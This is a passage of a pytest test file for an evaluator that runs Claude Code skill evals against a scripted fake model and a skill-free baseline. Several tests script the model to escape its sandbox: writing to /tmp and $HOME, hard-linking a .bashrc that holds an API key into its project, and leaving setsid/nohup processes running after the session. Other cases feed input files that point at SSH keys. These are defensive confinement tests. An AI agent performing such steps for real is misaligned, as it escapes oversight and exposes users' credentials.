"""Task evals (skill-creator's evals/evals.json) through the real Claude Code CLI, against a
baseline without the skill: what the run may do (--allow-tools), what it leaves (--artifacts),
the outside-write check, the judge per expectation, and the benchmark with its deltas.

The end-to-end tests run the evaluator as a user would, in this process (`run_evaluator`: the
user's environment alone, HOME, TMPDIR and the working folder the sandbox's; a child process
would spend seconds of CPU importing the SDKs again), or as a child process where the process is
what they observe (what outlives it, its pid); the evaluator runs the real `claude` binary, which
talks to the scripted Anthropic-compatible server (it also plays the judge)."""

from __future__ import annotations

import hashlib
import json
import os
import re
import signal
import subprocess
import sys
import tempfile
import threading
import time
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from conftest import CLAUDE, ROOT, TEST_API_KEY, invoke, needs_claude
from fake_anthropic import ScriptedAnthropic, forced_tool, reply, text, tool_use, user_query

import evaluator as E
import test_constants as C
from claude_tool_evaluator.claude_code import (
    TaskSetup,
    allow_read_problem,
    collect_artifacts,
    detect_activation,
    prepare_project,
    process_start_time,
    sandbox_settings,
)
from claude_tool_evaluator.redaction import Redactor
from claude_tool_evaluator.run_types import USAGE_FIELDS

SKILL = ROOT / "examples" / "skills" / "data-profile-report"
SKILL_NAME = "data-profile-report"
PROMPT = "Profile customers.csv and write the findings to report.txt."
REPORT = "ALPHA: customer_id 3 is duplicated. BETA: two emails are missing.\n"


# ----------------------------------------------------------------------------- fixtures
def write(path: Path, content: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content, encoding="utf-8")
    return path


def evals_file(
    folder: Path, expectations: list[str] | None = None, files: list[str] | None = None
) -> Path:
    """An eval set in skill-creator's example shape (references/schemas.md): the files relative
    to the skill's root (`evals/files/...`), as skill-creator writes them."""
    write(folder / "evals" / "files" / "customers.csv", "customer_id,email\n1,a@x.io\n3,\n3,\n")
    data = {
        "skill_name": SKILL_NAME,
        "evals": [
            {
                "id": 1,
                "prompt": PROMPT,
                "expected_output": "report.txt naming the duplicated customer_id 3 and the missing emails",
                "files": files if files is not None else ["evals/files/customers.csv"],
                "expectations": expectations
                if expectations is not None
                else ["The report mentions ALPHA", "The report mentions BETA"],
            }
        ],
    }
    return write(folder / "evals" / "evals.json", json.dumps(data, indent=2))


@pytest.fixture
def sandbox(tmp_path: Path) -> Path:
    for name in ("home", "work", "tmp"):
        (tmp_path / name).mkdir()
    (tmp_path / "work" / "notes.txt").write_text("the user's own file\n")
    return tmp_path


def run_evaluator(
    sandbox: Path,
    api: ScriptedAnthropic,
    *args: str,
    timeout: float = 240,
    path: str = "",
    process: bool = False,
) -> subprocess.CompletedProcess:
    """The evaluator with only these variables set, in the sandbox's working folder: in this
    process, or (`process=True`) as `python evaluator.py`."""
    env = {
        "PATH": path or os.environ["PATH"],
        "HOME": str(sandbox / "home"),
        "TMPDIR": str(sandbox / "tmp"),
        "ANTHROPIC_API_KEY": TEST_API_KEY,
        "ANTHROPIC_BASE_URL": api.url,
        "PYTHONPATH": str(ROOT),
    }
    argv = ["--claude-bin", CLAUDE, "--concurrency", "2", *map(str, args)]
    if process:
        return subprocess.run(
            [sys.executable, str(ROOT / "evaluator.py"), *argv],
            cwd=sandbox / "work",
            env=env,
            capture_output=True,
            text=True,
            timeout=timeout,
            stdin=subprocess.DEVNULL,
        )
    only = {**dict.fromkeys(os.environ), **env}  # every other variable unset for the run
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(sandbox / "work")
        patch.setattr(tempfile, "tempdir", None)  # TMPDIR read again, as a new process reads it
        ran = invoke(*argv, env=only)
    return subprocess.CompletedProcess(argv, ran.exit_code, ran.stdout, ran.stderr)


# ----------------------------------------------------------------------------- the scripted models
def listed(body: dict) -> str:
    return json.dumps([body.get("messages"), body.get("system")])


def tool_results_so_far(body: dict) -> list[dict]:
    return [
        b
        for m in body.get("messages", [])
        if isinstance(m.get("content"), list)
        for b in m["content"]
        if b.get("type") == "tool_result"
    ]


def judge(body: dict) -> dict:
    """The judge: an expectation `The report mentions X` is met when X is in a file the run left
    (the part of the judge's prompt that shows them), not merely in a tool call's arguments."""
    prompt = body["messages"][0]["content"]
    expectation = re.search(r"mentions (\w+)", prompt.split("<trajectory>")[0]).group(1)
    trajectory = prompt.split("<trajectory>")[1].split("</trajectory>")[0]
    files = trajectory.partition("Files the run created or changed")[2]  # a refused Write left none
    found = expectation in files
    return reply(
        tool_use(
            "grade",
            {
                "passed": found,
                "score": 1.0 if found else 0.0,
                "evidence": f"{expectation} {'is' if found else 'is not'} in the run's files",
            },
        )
    )


class TaskModel:
    """Claude Code's model: with the skill listed it calls the Skill tool, then `act` (a tool call
    of its own), then answers; without the skill it answers at once. `contents` are what its
    successive Write calls write (a known outcome per run)."""

    def __init__(
        self, act: str = "Write", contents: list[str] | None = None, command: str = ""
    ) -> None:
        self.act, self.contents, self.command = act, list(contents or [REPORT]), command
        self.writes = 0
        self.lock = threading.Lock()

    def __call__(self, body: dict) -> dict:
        if forced_tool(body) == "grade":
            return judge(body)
        if user_query(body) != PROMPT:
            return reply(text("ok"))
        done = tool_results_so_far(body)
        if SKILL_NAME not in listed(body) or len(done) >= 2:
            return reply(text("I looked at customers.csv: customer_id 3 appears twice."))
        if not done:
            return reply(tool_use("Skill", {"skill": SKILL_NAME}))
        if self.act == "Bash":
            return reply(tool_use("Bash", {"command": self.command, "description": "write a file"}))
        with self.lock:
            content = self.contents[min(self.writes, len(self.contents) - 1)]
            self.writes += 1
        return reply(tool_use("Write", {"file_path": "report.txt", "content": content}))


def task_skill(sandbox: Path) -> tuple[Path, Path]:
    """The example skill, copied with an eval set of this test's own."""
    import shutil

    folder = sandbox / "skills" / SKILL_NAME
    shutil.copytree(SKILL, folder, ignore=shutil.ignore_patterns("evals"))
    return folder, evals_file(folder)


# ----------------------------------------------------------------------------- loading evals.json
def test_skill_creator_evals_json_loads_unchanged(tmp_path: Path):
    folder = tmp_path / SKILL_NAME
    path = evals_file(folder)
    write(
        folder / "evals" / "notes.md", "beside the evals\n"
    )  # relative to the evals folder works too
    data = json.loads(path.read_text())
    data["evals"].append(  # `assertions`: the agentskills.io spelling skill-creator's SKILL.md uses
        {
            "id": 2,
            "prompt": "Summarise notes.md",
            "expected_output": "",
            "files": ["notes.md"],
            "assertions": ["The summary says what notes.md is"],
        }
    )
    path.write_text(json.dumps(data))
    for target in (
        path,
        folder,
        folder / "evals",
    ):  # the file, the skill's folder, the evals folder
        first, second = E.load_markdown_tests(target)
        assert (first.name, first.type, first.eval_id, first.skill) == (
            "eval-1",
            "task",
            1,
            SKILL_NAME,
        )
        assert first.prompt == PROMPT and first.expectations == [
            "The report mentions ALPHA",
            "The report mentions BETA",
        ]
        assert first.expected_output.startswith("report.txt naming")
        assert first.files == [(folder / "evals" / "files" / "customers.csv").resolve()]
        assert second.files == [(folder / "evals" / "notes.md").resolve()]
        assert second.expectations == ["The summary says what notes.md is"]
    # skill-creator's trigger eval sets still load as trigger tests
    trigger = write(
        tmp_path / "trigger.json",
        json.dumps([{"query": "profile my table", "should_trigger": True}]),
    )
    [test] = E.load_markdown_tests(trigger)
    assert test.type == "trigger" and test.positive_triggers == ["profile my table"]


def one_eval(**fields: object) -> str:
    return json.dumps({"evals": [{"id": 1, "prompt": "p", "expectations": ["x"], **fields}]})


MALFORMED = [
    ("{not json", "evals.json:1"),
    (json.dumps({"skill_name": SKILL_NAME, "evals": []}), 'non-empty "evals" list'),
    (json.dumps({"evals": [{"id": 1, "expectations": ["x"]}]}), 'needs a non-empty "prompt"'),
    (one_eval(expectations="x"), '"expectations" must be a list'),
    (one_eval(files=["evals/files/nope.pdf"]), "input file 'evals/files/nope.pdf' not found"),
    (
        json.dumps(
            {
                "evals": [
                    {"id": 1, "prompt": "p", "expectations": ["x"]},
                    {"id": 1, "prompt": "q", "expectations": ["x"]},
                ]
            }
        ),
        "two evals are named 'eval-1'",
    ),
    # nothing to grade would pass whatever Claude did (exit 0, no judge call)
    (json.dumps({"evals": [{"id": 1, "prompt": "p"}]}), "has nothing to grade"),
    (one_eval(expectations=[]), "has nothing to grade"),
    (one_eval(assertions=["y"]), '"expectations" or "assertions" (the same list), not both'),
    # input files stay inside the skill: no absolute path, no climbing out
    (one_eval(files=["/etc/hostname"]), "input file '/etc/hostname' is an absolute path"),
    (one_eval(files=["../../outside.txt"]), "input file '../../outside.txt' is outside the skill"),
    (
        one_eval(files=["evals/.claude"]),
        "would be read by Claude Code as the project's own settings",
    ),
]


@pytest.mark.parametrize("content, message", MALFORMED, ids=[m for _, m in MALFORMED])
def test_malformed_evals_give_one_line(cli, tmp_path: Path, content: str, message: str):
    write(tmp_path / "outside.txt", "the user's own file\n")
    write(tmp_path / SKILL_NAME / "evals" / ".claude" / "settings.json", '{"sandbox": {}}')
    path = write(tmp_path / SKILL_NAME / "evals" / "evals.json", content)
    result = cli("--skill", str(SKILL), "--tests", str(path))
    assert result.exit_code == 2, result.output
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: {path}") and message in lines[0], (
        result.output
    )


def test_input_files_that_lead_out_of_the_skill_are_refused(tmp_path: Path):
    """`"files": ["/etc/hostname", "../../x", "link-to-key"]` were accepted: a downloaded skill's
    evals could copy ~/.ssh/id_rsa into every project Claude reads, and into the artifacts."""
    folder = tmp_path / SKILL_NAME
    key = write(tmp_path / "id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\n")
    write(folder / "evals" / "files" / "data" / "ok.csv", "a\n1\n")
    (folder / "evals" / "files" / "link-to-key").symlink_to(key)
    (folder / "evals" / "files" / "data" / "inner-link").symlink_to(key)
    for entry, says in (
        ("evals/files/link-to-key", "is outside the skill's folder"),
        ("evals/files/data", "inner-link is a symbolic link"),
    ):
        path = write(folder / "evals" / "evals.json", one_eval(files=[entry]))
        with pytest.raises(E.InputError, match=says) as caught:
            E.load_markdown_tests(path)
        assert entry in str(caught.value) and "\n" not in str(caught.value)
    (folder / "evals" / "files" / "data" / "inner-link").unlink()
    (folder / "evals" / "files" / "same.csv").symlink_to("data/ok.csv")  # a link inside is fine
    path = write(folder / "evals" / "evals.json", one_eval(files=["evals/files/same.csv"]))
    [test] = E.load_markdown_tests(path)
    assert test.files == [(folder / "evals" / "files" / "data" / "ok.csv").resolve()]


def test_a_markdown_test_with_nothing_to_grade_is_refused(cli, tmp_path: Path):
    ungraded = write(tmp_path / "t.md", "---\nname: t\ntype: task\n---\n\n# Prompt\n\nDo it.\n")
    result = cli("--skill", str(SKILL), "--tests", str(ungraded))
    assert result.exit_code == 2 and "has nothing to grade" in result.output
    assert len(result.output.strip().splitlines()) == 1


def test_task_options_are_checked_before_anything_runs(cli, tmp_path: Path, api: ScriptedAnthropic):
    path = evals_file(tmp_path / SKILL_NAME)
    cases = [
        (
            ["--tests", path, "--allow-tools", "Write,WebFetch"],
            "WebFetch is not one of Bash, Edit, Write, NotebookEdit",
        ),
        (
            [
                "--trigger",
                ROOT / "examples" / "triggers" / "data-profile-report-trigger.md",
                "--baseline",
            ],
            "--baseline applies to task tests, and none is given",
        ),
        (["--tests", path, "--baseline-skill", SKILL], "is the skill under test itself"),
        (["--tests", path, "--artifacts", path], "not a folder"),
    ]
    for args, message in cases:
        result = cli("--skill", str(SKILL), *map(str, args))
        assert (
            result.exit_code == 2
            and message in result.output
            and len(result.output.strip().splitlines()) == 1
        ), (args, result.output)
    without_skill = cli("--tests", str(path))  # against MCP servers: refused
    assert (
        without_skill.exit_code == 2
        and "task evals run through Claude Code" in without_skill.output
    )
    other = write(
        tmp_path / "other" / "evals.json",
        json.dumps(
            {
                "skill_name": "warehouse-sql",
                "evals": [{"id": 1, "prompt": "p", "expectations": ["x"]}],
            }
        ),
    )
    result = cli("--skill", str(SKILL), "--tests", str(other))
    assert (
        result.exit_code == 2 and "for skill 'warehouse-sql', which is not among" in result.output
    )
    assert api.requests == []


def test_dry_run_counts_every_configuration_and_the_judge_and_spends_nothing(
    cli, tmp_path: Path, api: ScriptedAnthropic
):
    path = evals_file(tmp_path / SKILL_NAME)
    old = tmp_path / "old" / SKILL_NAME
    write(old / "SKILL.md", f"---\nname: {SKILL_NAME}\ndescription: The old version.\n---\nOld.\n")
    one = cli("--skill", str(SKILL), "--tests", str(path), "--runs", "2", "--dry-run")
    three = cli(
        "--skill",
        str(SKILL),
        "--tests",
        str(path),
        "--runs",
        "2",
        "--dry-run",
        "--baseline",
        "--baseline-skill",
        str(old),
    )
    assert one.exit_code == 0 and three.exit_code == 0, one.output + three.output
    # 2 (or 6) claude runs of about 2 calls each, and a judge call per expectation and run
    assert "runs: 2 " in one.output and "model calls: about 8 " in one.output, one.output
    assert "runs: 6 " in three.output and "model calls: about 24 " in three.output, three.output
    assert api.requests == [], "a dry run calls no model"


# ----------------------------------------------------------------------------- end to end, the real CLI
@needs_claude
def test_write_lands_in_the_artifacts_and_without_allow_tools_claude_code_refuses(sandbox: Path):
    skill, evals = task_skill(sandbox)
    artifacts = sandbox / "work" / "artifacts"
    with ScriptedAnthropic(responder=TaskModel()) as api:
        allowed = run_evaluator(
            sandbox,
            api,
            "--skill",
            skill,
            "--tests",
            evals,
            "--allow-tools",
            "Write",
            "--artifacts",
            artifacts,
            "--runs",
            "1",
            "-o",
            sandbox / "allowed.json",
        )
        refused = run_evaluator(
            sandbox,
            api,
            "--skill",
            skill,
            "--tests",
            evals,
            "--runs",
            "1",
            "-o",
            sandbox / "refused.json",
        )
        calls = len(api.requests)
        again = run_evaluator(
            sandbox,
            api,
            "--skill",
            skill,
            "--tests",
            evals,
            "--allow-tools",
            "Write",
            "--artifacts",
            artifacts,
            "--runs",
            "1",
            "-o",
            sandbox / "allowed.json",
            "--resume",
        )
        assert again.returncode == 0 and "resuming: 1 run(s) kept" in again.stdout, (
            again.stdout + again.stderr
        )
        assert len(api.requests) == calls, (
            "a finished, graded task run is neither run nor graded again"
        )
    assert allowed.returncode == 0, allowed.stdout + allowed.stderr
    run_folder = artifacts / "eval-1" / "with_skill" / "run-1"
    assert (run_folder / "report.txt").read_text() == REPORT
    manifest = json.loads((run_folder / "manifest.json").read_text())
    digest = hashlib.sha256(REPORT.encode()).hexdigest()
    assert manifest["files"] == [
        {
            "path": "report.txt",
            "size": len(REPORT.encode()),
            "sha256": digest,
            "status": "new",
            "not_read": None,
            "copied": True,
            "redacted": False,
        }
    ]
    [record] = json.loads((sandbox / "allowed.json").read_text())["results"]
    assert (
        record["configuration"] == "with_skill"
        and record["refused_tools"] == []
        and record["error"] is None
    )
    assert [a["sha256"] for a in record["artifacts"]] == [digest]
    assert [(e["text"], e["passed"]) for e in record["expectations"]] == [
        ("The report mentions ALPHA", True),
        ("The report mentions BETA", True),
    ]
    assert "tool call Write(" in record["transcript_summary"]
    # the input file was there for the run, and is not counted as something it made
    assert "customers.csv" not in [a["path"] for a in record["artifacts"]]

    assert refused.returncode == 1, refused.stdout + refused.stderr
    document = json.loads((sandbox / "refused.json").read_text())
    [record] = document["results"]
    assert record["tools"][-1] == "Write" and record["artifacts"] == []
    assert len(record["refused_tools"]) == 1 and record["refused_tools"][0].startswith("Write: ")
    assert "No such tool available" in record["refused_tools"][0]
    assert [e["passed"] for e in record["expectations"]] == [False, False]
    [case] = document["cases"]
    assert case["name"] == "eval-1 [with_skill]" and not case["passed"]
    assert "expectation not met: The report mentions ALPHA" in case["reasons"]


class StepsModel:
    """Claude Code's model on the task: with the skill listed it calls the Skill tool, then each
    scripted (tool, input) in turn, whatever the tool answered, then answers; without the skill it
    answers at once. The judge: as in `judge`."""

    def __init__(self, *steps: tuple[str, dict], on_request: Any = None) -> None:
        self.steps, self.on_request = steps, on_request

    def __call__(self, body: dict) -> dict:
        if self.on_request is not None:
            self.on_request(body)
        if forced_tool(body) == "grade":
            return judge(body)
        if user_query(body) != PROMPT:
            return reply(text("ok"))
        done = tool_results_so_far(body)
        if SKILL_NAME not in listed(body) or len(done) > len(self.steps):
            return reply(text("Done."))
        if not done:
            return reply(tool_use("Skill", {"skill": SKILL_NAME}))
        name, tool_input = self.steps[len(done) - 1]
        return reply(tool_use(name, tool_input))


def bash(command: str) -> tuple[str, dict]:
    return "Bash", {"command": command, "description": "a scripted step"}


def results_of(body_log: list[dict]) -> list[dict]:
    """The tool results Claude Code sent back, in the last request of the task's conversation."""
    last = [b for b in body_log if user_query(b) == PROMPT and forced_tool(b) is None][-1]
    return tool_results_so_far(last)


def task_requests(api: ScriptedAnthropic) -> list[dict]:
    return [r["body"] for r in api.requests if r["path"] == "/v1/messages"]


@needs_claude
def test_bash_and_write_outside_the_project_are_refused_and_inside_they_work(sandbox: Path):
    """With --allow-tools Bash a scripted `echo x > /tmp/...` in a task run was written and the run
    passed: `claude -p` has no filesystem boundary of its own unless its sandbox is on. Now Bash
    runs in Claude Code's sandbox and Write is kept to the project by its permission rules."""
    skill, evals = task_skill(sandbox)
    marker = f"outside-{os.getpid()}-{time.time_ns()}"
    tmp_target = Path("/tmp") / f"{marker}.txt"
    outside = sandbox / "work" / f"{marker}-written.txt"
    precious = write(sandbox / "precious.txt", "the user's own file\n")
    model = StepsModel(
        bash(f"echo x > {tmp_target}"),
        bash("echo x > $HOME/in-home.txt"),
        ("Write", {"file_path": str(outside), "content": "x\n"}),
        bash(f"ln {precious} linked.txt"),
        bash("printf 'ALPHA and BETA\\n' > report.txt; echo wrote"),
    )
    with ScriptedAnthropic(responder=model) as api:
        done = run_evaluator(
            sandbox,
            api,
            "--skill",
            skill,
            "--tests",
            evals,
            "--allow-tools",
            "Bash,Write",
            "--runs",
            "1",
            "-o",
            sandbox / "confined.json",
        )
        results = results_of(task_requests(api))
    assert done.returncode == 0, done.stdout + done.stderr
    assert not tmp_target.exists() and not outside.exists()
    assert sorted(p.name for p in (sandbox / "home").iterdir()) == [], "the real HOME is untouched"
    assert precious.stat().st_nlink == 1
    said = [(r.get("is_error", False), json.dumps(r["content"])) for r in results[1:]]
    assert said[0][0] and "Read-only file system" in said[0][1], said[0]
    assert said[1][0] and "Read-only file system" in said[1][1], said[1]
    assert said[2][0] and "Permission to use Write has been denied" in said[2][1], said[2]
    assert said[3][0] and "Invalid cross-device link" in said[3][1], said[3]
    assert not said[4][0] and "wrote" in said[4][1], said[4]
    [record] = json.loads((sandbox / "confined.json").read_text())["results"]
    refused = [r.split(":")[0] for r in record["refused_tools"]]
    assert refused == ["Bash", "Bash", "Write", "Bash"], record["refused_tools"]
    assert [a["path"] for a in record["artifacts"]] == ["report.txt"]
    assert record["error"] is None and record["outside_writes"] == []


def path_without(tmp_path: Path, *names: str) -> str:
    """A PATH holding every program of this one but `names` (links in one folder)."""
    folder = tmp_path / "bin"
    folder.mkdir(exist_ok=True)
    for directory in os.environ["PATH"].split(os.pathsep):
        if not os.path.isdir(directory):
            continue
        for entry in os.listdir(directory):
            if entry not in names and not (folder / entry).exists():
                (folder / entry).symlink_to(Path(directory) / entry)
    return str(folder)


@needs_claude
def test_without_a_sandbox_a_bash_run_is_refused_unless_unconfined(sandbox: Path):
    """The sandbox cannot start (no bubblewrap): one line before anything runs; --unconfined runs
    Bash as the user, and the results and reports say so."""
    skill, evals = task_skill(sandbox)
    path = path_without(sandbox, "bwrap")
    model = StepsModel(bash("printf 'ALPHA BETA\\n' > report.txt"))
    with ScriptedAnthropic(responder=model) as api:
        args = ["--skill", skill, "--tests", evals, "--allow-tools", "Bash", "--runs", "1"]
        refused = run_evaluator(sandbox, api, *args, "-o", sandbox / "r.json", path=path)
        assert api.requests == []
        dry = run_evaluator(sandbox, api, *args, "--dry-run", path=path)
        allowed = run_evaluator(
            sandbox,
            api,
            *args,
            "--unconfined",
            "-o",
            sandbox / "u.json",
            "--report",
            sandbox / "u.md",
            path=path,
        )
    for done in (refused, dry):
        lines = done.stderr.strip().splitlines()
        assert done.returncode == 2 and len(lines) == 1, done.stdout + done.stderr
        assert "Claude Code's sandbox, which cannot start here: bwrap not found" in lines[0]
        assert "--unconfined" in lines[0]
    assert allowed.returncode == 0, allowed.stdout + allowed.stderr
    document = json.loads((sandbox / "u.json").read_text())
    assert document["isolation"]["unconfined"] is True
    assert "Task runs were not confined (--unconfined)" in (sandbox / "u.md").read_text()
    assert "Task runs were not confined (--unconfined)" in " ".join(allowed.stdout.split())
    assert [a["path"] for a in document["results"][0]["artifacts"]] == ["report.txt"]


@needs_claude
def test_the_evaluator_never_writes_through_a_link_a_run_left(sandbox: Path):
    """A run that hard-links a file of the user's into its project made the evaluator rewrite
    that file (masking secrets in place) and copy it to --artifacts. Unconfined here, where the
    link can be made (the sandbox refuses it)."""
    skill, evals = task_skill(sandbox)
    victim = write(sandbox / "home" / ".bashrc", f"export ANTHROPIC_API_KEY={TEST_API_KEY}\n")
    before = victim.read_bytes()
    model = StepsModel(
        bash(f"ln {victim} report.txt && ln -s {victim} symlink.txt && echo ALPHA BETA > b.txt")
    )
    artifacts = sandbox / "work" / "artifacts"
    with ScriptedAnthropic(responder=model) as api:
        done = run_evaluator(
            sandbox,
            api,
            "--skill",
            skill,
            "--tests",
            evals,
            "--allow-tools",
            "Bash",
            "--unconfined",
            "--artifacts",
            artifacts,
            "--runs",
            "1",
            "-o",
            sandbox / "l.json",
        )
    assert done.returncode == 0, done.stdout + done.stderr
    assert victim.read_bytes() == before and victim.stat().st_nlink == 1
    kept = artifacts / "eval-1" / "with_skill" / "run-1"
    assert (kept / "report.txt").read_text() == "export ANTHROPIC_API_KEY=[REDACTED]\n"
    assert not (kept / "symlink.txt").exists(), "a link is never followed"
    manifest = json.loads((kept / "manifest.json").read_text())["files"]
    assert {f["path"]: f["redacted"] for f in manifest} == {"b.txt": False, "report.txt": True}


@needs_claude
def test_background_processes_of_a_run_end_with_it(sandbox: Path):
    """A task run with Bash left a dev server or watcher it started running after the run ended
    (unconfined; in the sandbox they end with their Bash call)."""
    skill, evals = task_skill(sandbox)
    seconds = f"{4800 + os.getpid() % 97}.{time.time_ns() % 1000}"
    model = StepsModel(
        bash(
            f"(setsid sleep {seconds} >/dev/null 2>&1 &); nohup sleep {seconds} >/dev/null 2>&1 &"
            f" setsid sleep {seconds} >/dev/null 2>&1 & echo ALPHA BETA > report.txt"
        )
    )
    with ScriptedAnthropic(responder=model) as api:
        done = run_evaluator(
            sandbox,
            api,
            "--skill",
            skill,
            "--tests",
            evals,
            "--allow-tools",
            "Bash",
            "--unconfined",
            "--runs",
            "1",
            "-o",
            sandbox / "bg.json",
            process=True,  # what outlives the evaluator's process is the subject
        )
    assert done.returncode == 0, done.stdout + done.stderr
    ps = subprocess.run(["ps", "-eo", "pid,stat,args"], capture_output=True, text=True).stdout
    assert [line for line in ps.splitlines() if f"sleep {seconds}" in line] == []


@needs_claude
def test_a_change_another_program_makes_is_a_warning_when_runs_are_confined(sandbox: Path):
    """Any file written in the working folder during a skill run (an editor's autosave, a test
    runner's cache) failed the whole run as "changed outside the temporary projects"."""
    skill, evals = task_skill(sandbox)
    work = sandbox / "work"

    def editor(body: dict) -> None:  # another program, while the runs run
        (work / ".notes.txt.swp").write_text(str(time.time_ns()))
        (work / ".hypothesis").mkdir(exist_ok=True)
        (work / ".hypothesis" / str(time.time_ns())).write_text("x")

    model = StepsModel(bash("echo ALPHA BETA > report.txt"), on_request=editor)
    with ScriptedAnthropic(responder=model) as api:
        args = ["--skill", skill, "--tests", evals, "--allow-tools", "Bash", "--runs", "1"]
        warned = run_evaluator(sandbox, api, *args, "-o", sandbox / "w.json")
        ignored = run_evaluator(
            sandbox,
            api,
            *args,
            "--ignore-path",
            "*.swp",
            "--ignore-path",
            ".hypothesis",
            "-o",
            sandbox / "i.json",
        )
        blamed = run_evaluator(sandbox, api, *args, "--unconfined", "-o", sandbox / "b.json")
    assert warned.returncode == 0, warned.stdout + warned.stderr
    isolation = json.loads((sandbox / "w.json").read_text())["isolation"]
    assert isolation["ok"] is True and isolation["outside_writes"] == []
    assert sorted(Path(p).name for p in isolation["changed_elsewhere"]) == [
        ".hypothesis",
        ".notes.txt.swp",
    ]
    flat = " ".join(warned.stdout.split())
    assert f"warning: {work / '.notes.txt.swp'} changed while the runs ran" in flat
    assert "another program did" in flat
    assert ignored.returncode == 0, ignored.stdout + ignored.stderr
    assert json.loads((sandbox / "i.json").read_text())["isolation"]["changed_elsewhere"] == []
    assert blamed.returncode == 1, blamed.stdout + blamed.stderr
    document = json.loads((sandbox / "b.json").read_text())
    [record] = document["results"]
    assert record["error"].startswith("wrote outside its temporary project: ")
    assert str(work / ".notes.txt.swp") in record["error"]
    assert document["isolation"]["ok"] is False


@needs_claude
def test_baseline_runs_without_the_skill_and_the_deltas_are_the_scripted_ones(sandbox: Path):
    skill, evals = task_skill(sandbox)
    out = sandbox / "bench.json"
    # with_skill: one run writes both words (2/2), the other only ALPHA (1/2); without_skill writes nothing (0/2)
    model = TaskModel(contents=[REPORT, "ALPHA only.\n"])
    with ScriptedAnthropic(responder=model) as api:
        done = run_evaluator(
            sandbox,
            api,
            "--skill",
            skill,
            "--tests",
            evals,
            "--allow-tools",
            "Write",
            "--baseline",
            "--runs",
            "2",
            "-o",
            out,
            "--report",
            sandbox / "bench.md",
            "--junit",
            sandbox / "bench.xml",
            "--benchmark-json",
            sandbox / "skill-creator.json",
        )
        requests = [
            r["body"]
            for r in api.requests
            if r["path"] == "/v1/messages"
            and forced_tool(r["body"]) is None
            and user_query(r["body"]) == PROMPT
        ]
    assert done.returncode == 0, done.stdout + done.stderr
    document = json.loads(out.read_text())
    records = document["results"]
    by_configuration = {
        c: [r for r in records if r["configuration"] == c] for c in ("with_skill", "without_skill")
    }
    assert [len(v) for v in by_configuration.values()] == [2, 2]
    # the baseline never fails the suite: the headlines count it apart, not as "1/2 cases passed"
    headline = (sandbox / "bench.md").read_text().splitlines()[0]
    counted = "1/1 cases passed; the baseline 0/1, which never fails the suite"
    assert headline == f"## ✅ Skill evaluation: {counted}", headline
    flat = " ".join(done.stdout.split())
    assert "Skill evaluation: 1/1 passed; the baseline 0/1, which never fails the suite" in flat
    # the recorded requests: a with_skill run lists the skill to the model, a without_skill run does not
    openings = [b for b in requests if not tool_results_so_far(b)]  # each run's first call
    assert len(openings) == 4
    assert sum(SKILL_NAME in listed(b) for b in openings) == 2
    assert all(SKILL_NAME in r["skills_loaded"] for r in by_configuration["with_skill"])
    assert all(
        SKILL_NAME not in r["skills_loaded"] and r["activated_skills"] == []
        for r in by_configuration["without_skill"]
    )

    benchmark = document["benchmark"]
    stats = {s["configuration"]: s for s in benchmark["configurations"]}
    assert stats["with_skill"]["pass_rate"] == {
        "mean": 0.75,
        "stddev": 0.3536,
        "min": 0.5,
        "max": 1.0,
    }
    assert stats["without_skill"]["pass_rate"] == {
        "mean": 0.0,
        "stddev": 0.0,
        "min": 0.0,
        "max": 0.0,
    }
    assert (
        stats["with_skill"]["expectations_passed"],
        stats["with_skill"]["expectations_total"],
    ) == (3, 4)
    [delta] = benchmark["deltas"]
    assert delta["baseline"] == "without_skill" and delta["pass_rate"] == 0.75

    def mean(values: list[float]) -> float:
        return sum(values) / len(values)

    def tokens(record: dict) -> int:
        return sum(record["usage"].get(k) or 0 for k in USAGE_FIELDS)

    expected_tokens = mean([tokens(r) for r in by_configuration["with_skill"]]) - mean(
        [tokens(r) for r in by_configuration["without_skill"]]
    )
    expected_time = mean([r["latency_ms"] / 1000 for r in by_configuration["with_skill"]]) - mean(
        [r["latency_ms"] / 1000 for r in by_configuration["without_skill"]]
    )
    assert delta["tokens"] == pytest.approx(expected_tokens, abs=0.01) and expected_tokens > 0
    assert delta["time_seconds"] == pytest.approx(expected_time, abs=0.01)
    [per_eval] = benchmark["evals"]
    assert per_eval["deltas"][0]["pass_rate"] == 0.75
    tallies = {t["text"]: t for t in per_eval["expectations"]}
    assert tallies["The report mentions ALPHA"]["passed"] == {"with_skill": 2, "without_skill": 0}
    assert tallies["The report mentions BETA"]["passed"] == {"with_skill": 1, "without_skill": 0}

    # the baseline is reported, and never fails the suite; JUnit has a testcase per eval and configuration
    cases = {c["name"]: c for c in document["cases"]}
    assert cases["eval-1 [with_skill]"]["passed"] and not cases["eval-1 [without_skill]"]["passed"]
    testcases = ET.parse(sandbox / "bench.xml").getroot().iter("testcase")
    junit = {t.get("name"): t for t in testcases}
    assert set(junit) == {"eval-1 [with_skill]", "eval-1 [without_skill]"}
    # JUnit says what the JSON says of every configuration (it showed the failing baseline as
    # passing); a property says the baseline does not gate
    for name, testcase in junit.items():
        failed = testcase.find("failure") is not None or testcase.find("error") is not None
        assert failed == (not cases[name]["passed"]), name
    assert "a baseline: reported, it does not fail the suite" in junit[
        "eval-1 [without_skill]"
    ].find("failure").get("message")
    gates = {
        t: {p.get("name"): p.get("value") for p in e.iter("property")} for t, e in junit.items()
    }
    assert gates["eval-1 [with_skill]"]["gates"] == "true"
    assert gates["eval-1 [without_skill]"]["gates"] == "false"
    report = (sandbox / "bench.md").read_text()
    assert (
        "## Benchmark: task evals" in report
        and "| Δ with_skill − without_skill |  | +75% |" in report
    )
    assert (
        "| with_skill | 2 | 75% ± 35% |" in report and "| without_skill | 2 | 0% ± 0% |" in report
    )
    assert "Task evals: benchmark" in done.stdout and "+75%" in done.stdout
    # skill-creator's benchmark.json: the shape its viewer reads
    sc = json.loads((sandbox / "skill-creator.json").read_text())
    assert sc["metadata"]["skill_name"] == SKILL_NAME and sc["metadata"]["evals_run"] == [1]
    assert sc["run_summary"]["delta"]["pass_rate"] == "+0.75"
    assert sc["run_summary"]["with_skill"]["pass_rate"]["mean"] == 0.75
    assert sorted((r["configuration"], r["result"]["passed"]) for r in sc["runs"]) == [
        ("with_skill", 1),
        ("with_skill", 2),
        ("without_skill", 0),
        ("without_skill", 0),
    ]
    assert all(
        set(r["result"])
        >= {"pass_rate", "passed", "failed", "total", "time_seconds", "tokens", "errors"}
